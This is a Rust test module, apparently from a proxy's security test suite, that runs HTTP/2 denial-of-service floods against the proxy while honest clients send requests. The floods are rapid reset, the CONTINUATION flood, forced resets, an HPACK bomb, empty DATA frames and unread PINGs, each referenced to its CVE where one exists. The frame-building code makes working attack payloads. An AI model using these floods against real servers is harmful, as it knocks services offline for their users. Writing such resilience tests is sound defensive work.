//! Floods from clients, each beside honest clients. A flood that causes useless work in the proxy
//! or in replicas must be cut off; the others must leave resources for other clients.

use super::innocents::{Innocents, Tally};
use super::meters::{Watch, mib};
use super::rogue::{self, Rogue};
use super::scores::{Score, Scores};
use super::setup::Setup;
use super::site::Site;
use super::standstill::{self, PART};
use super::wire::frames::{self, frame};
use super::wire::http2;
use core::net::SocketAddr;
use core::sync::atomic::{AtomicBool, Ordering};
use core::time::Duration;
use std::io;
use std::time::Instant;

/// Growth of the process's memory that a flood may cause.
const GROWTH_MAX_KIB: u64 = 64 << 10;

/// After a longer write, the proxy counts as no longer reading.
const WRITE_MAX: Duration = Duration::from_secs(3);

/// Requests in flight that a client cancels at once.
const ROUND: u32 = 60;

/// A flood on one connection.
pub(super) struct Flood {
    finding: &'static str,
    name: &'static str,
    /// Whether it must be cut off.
    is_cut: bool,
    /// Sends until the test is over or the flood is cut off.
    play: fn(&mut http2::Connection, &AtomicBool) -> io::Result<()>,
}

pub(super) const FLOODS: &[Flood] = &[
    Flood {
        finding: "",
        name: "rapid reset (CVE-2023-44487)",
        is_cut: true,
        play: |connection, over| {
            for_streams(connection, over, |id| {
                [frames::get(id, "/hang"), frames::reset(id, frames::CANCEL)].concat()
            })
        },
    },
    Flood {
        finding: "7",
        name: "rapid reset, paid for with requests for a wrong host",
        is_cut: true,
        play: paid_with_refusals,
    },
    Flood {
        finding: "",
        name: "requests that have to be reset (CVE-2025-8671)",
        is_cut: true,
        play: |connection, over| {
            for_streams(connection, over, |id| {
                [frames::get(id, "/hang"), frames::window_update(id, 0)].concat()
            })
        },
    },
    Flood {
        finding: "",
        name: "an endless CONTINUATION (CVE-2024-27316)",
        is_cut: true,
        play: |connection, over| {
            connection.send(&frame(frames::HEADERS, 0, 1, &frames::request("GET", "/")))?;
            let more = frames::field(b"x-field", b"x").repeat(100);
            let piece = frame(frames::CONTINUATION, 0, 1, &more);
            while !over.load(Ordering::Relaxed) {
                connection.send(&piece)?;
            }
            Ok(())
        },
    },
    Flood {
        finding: "",
        name: "empty DATA",
        is_cut: true,
        play: |connection, over| {
            connection.send(&frames::headers(
                1,
                &frames::request("POST", "/hang"),
                false,
            ))?;
            let piece = frame(frames::DATA, 0, 1, b"").repeat(500);
            while !over.load(Ordering::Relaxed) {
                connection.send(&piece)?;
            }
            Ok(())
        },
    },
    Flood {
        finding: "7",
        name: "HPACK bomb: a field of 4,000 bytes, 60 times a head by its index",
        is_cut: false,
        play: |connection, over| {
            let first = frames::indexed_field(b"x-bomb", &[b'x'; 4_000]);
            let first = [frames::request("GET", "/"), first].concat();
            connection.send(&frames::headers(1, &first, true))?;
            let mut block = frames::request("GET", "/");
            // The newest entry of the dynamic table.
            block.resize(block.len() + 60, 0xbe);
            for index in 1..u32::MAX >> 2 {
                if over.load(Ordering::Relaxed) {
                    break;
                }
                connection.send(&frames::headers(frames::stream(index), &block, true))?;
            }
            Ok(())
        },
    },
    Flood {
        finding: "",
        name: "PING whose answers are never read",
        is_cut: false,
        play: |connection, over| {
            let piece = frames::ping().repeat(500);
            while !over.load(Ordering::Relaxed) {
                connection.send(&piece)?;
            }
            Ok(())
        },
    },
];

pub(super) fn run(site: &Site<'_>, scores: &mut Scores) -> Result<(), String> {
    let replica = Rogue::start(rogue::honest)?;
    let replicas = [replica.address];
    let setup = Setup {
        // A closed connection was cut off, and not closed for being idle.
        idle: 60,
        ..Setup::new(1, &replicas, super::setup::Protocol::Http1)
    };
    for flood in FLOODS {
        let proxy = site.start_ours(&setup)?;
        proxy.warm_up()?;
        let before = proxy.resident_kib();
        let watch = Watch::start(proxy.pid());
        let time = site.pick(Duration::from_secs(1), Duration::from_secs(4));
        let (cut, tally) = besiege(proxy.at.http1, flood, time)?;
        let growth = watch.most_kib().saturating_sub(before);
        let cut_text = if cut { "cut off" } else { "not cut off" };
        let met = tally.failed == 0 && growth <= GROWTH_MAX_KIB && (cut || !flood.is_cut);
        let bar = if flood.is_cut {
            "cut off, 0 innocents fail, 64 MiB at most"
        } else {
            "0 innocents fail, 64 MiB at most"
        };
        let found = format!("{cut_text}; innocents: {tally}; {} more", mib(growth));
        scores.add(Score::alone(
            PART,
            flood.finding,
            flood.name,
            bar,
            (met, found),
        ));
    }
    standstill::run(site, &setup, scores)
}

/// Plays a flood beside honest clients; returns whether it was cut off early, and the honest
/// clients' results.
pub(super) fn besiege(
    proxy: SocketAddr,
    flood: &Flood,
    time: Duration,
) -> Result<(bool, Tally), String> {
    let per_second = 20;
    let requests = usize::try_from(time.as_millis()).unwrap_or_default() * per_second / 1_000;
    let innocents = Innocents {
        requests,
        per_second,
        timeout: Duration::from_secs(5),
        posts: true,
        prefix: "",
    };
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        let attacker = scope.spawn(|| {
            let mut connection = http2::Connection::open(proxy, 65_535, WRITE_MAX)?;
            // The end of the connection is checked below.
            let _ = (flood.play)(&mut connection, &over);
            let cut = is_cut_off(&mut connection);
            connection.close();
            Ok::<_, io::Error>(cut)
        });
        let tally = innocents.send(proxy);
        over.store(true, Ordering::Relaxed);
        let cut = attacker
            .join()
            .map_err(|_| format!("{}: the attacker panicked", flood.name))?
            .map_err(|error| format!("{}: {error}", flood.name))?;
        Ok((cut, tally))
    })
}

/// Returns whether the proxy has announced the end of the connection, or has closed it.
fn is_cut_off(connection: &mut http2::Connection) -> bool {
    let until = Instant::now() + Duration::from_secs(1);
    loop {
        match connection.next(until) {
            Ok(Some(frame)) if frame.kind == frames::GOAWAY => return true,
            Ok(Some(_)) => {}
            Ok(None) => return true,
            Err(_) => return false,
        }
    }
}

/// Sends the same frames on stream after stream, a hundred at a time.
fn for_streams(
    connection: &mut http2::Connection,
    over: &AtomicBool,
    bytes: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let mut index = 0;
    while !over.load(Ordering::Relaxed) {
        let piece: Vec<_> = (index..index + 100)
            .flat_map(|index| bytes(frames::stream(index)))
            .collect();
        connection.send(&piece)?;
        index += 100;
    }
    Ok(())
}

/// Sends as many requests that the proxy itself rejects as requests that it cancels once a replica
/// has them.
fn paid_with_refusals(connection: &mut http2::Connection, over: &AtomicBool) -> io::Result<()> {
    let mut index = 0;
    while !over.load(Ordering::Relaxed) {
        let taken_back = index..index + ROUND;
        let refused = index + ROUND..index + 2 * ROUND;
        let asked: Vec<_> = taken_back
            .clone()
            .flat_map(|index| frames::get(frames::stream(index), "/hang"))
            .collect();
        connection.send(&asked)?;
        // They have reached the replica by then.
        std::thread::sleep(Duration::from_millis(20));
        let rest: Vec<_> = taken_back
            .flat_map(|index| frames::reset(frames::stream(index), frames::CANCEL))
            .chain(refused.flat_map(|index| {
                let block = frames::request_to("user@siege.test", "GET", "/");
                frames::headers(frames::stream(index), &block, true)
            }))
            .collect();
        connection.send(&rest)?;
        index += 2 * ROUND;
    }
    Ok(())
}

impl core::fmt::Debug for Flood {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.write_str(self.name)
    }
}
